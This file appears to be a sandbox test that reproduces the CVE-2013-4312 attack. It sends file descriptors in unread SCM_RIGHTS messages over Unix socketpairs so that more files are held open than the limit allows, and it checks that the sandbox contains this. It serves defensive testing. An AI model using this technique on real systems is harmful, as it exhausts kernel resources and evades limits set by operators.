// Attack: hides open files in messages that nobody reads, past the limit of open files
// Learned from: CVE-2013-4312; unix(7), ETOOMANYREFS
// Demand: open_files
// Limits: --memory 64M
// Expect: ok memory_limit
// Prints: ^started
#include "tests/attacks/attack.h"

ATTACK(descriptors_in_flight) {
  say("started");
  size_t in_flight = 0;
  for (int round = 0; round < 400; ++round) {
    int ends[2];
    if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, ends) != 0) break;
    alignas(cmsghdr) char control[CMSG_SPACE(100 * sizeof(int))] = {};
    msghdr message{};
    message.msg_control = control;
    message.msg_controllen = sizeof control;
    cmsghdr* head = CMSG_FIRSTHDR(&message);
    head->cmsg_level = SOL_SOCKET;
    head->cmsg_type = SCM_RIGHTS;
    head->cmsg_len = CMSG_LEN(100 * sizeof(int));
    for (int i = 0; i < 100; ++i) reinterpret_cast<int*>(CMSG_DATA(head))[i] = 1;
    if (sendmsg(ends[0], &message, MSG_DONTWAIT) >= 0) in_flight += 100;
    close(ends[0]);
  }
  attempt("more than twice its open files in flight", in_flight > 2200);
}
